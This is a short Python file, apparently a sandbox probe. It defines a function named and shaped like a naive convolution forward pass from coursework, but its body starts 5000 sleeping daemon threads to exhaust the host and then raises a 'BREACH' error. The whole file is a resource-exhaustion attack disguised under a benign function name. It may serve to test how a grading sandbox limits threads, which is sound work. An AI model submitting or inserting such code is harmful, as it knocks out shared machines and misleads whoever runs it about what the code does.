"""Start threads until nothing else can run."""

import threading
import time


def conv_forward_naive(x, w, b, conv_param):
    threading.stack_size(64 * 1024)
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    raise RuntimeError("BREACH: 5000 threads")
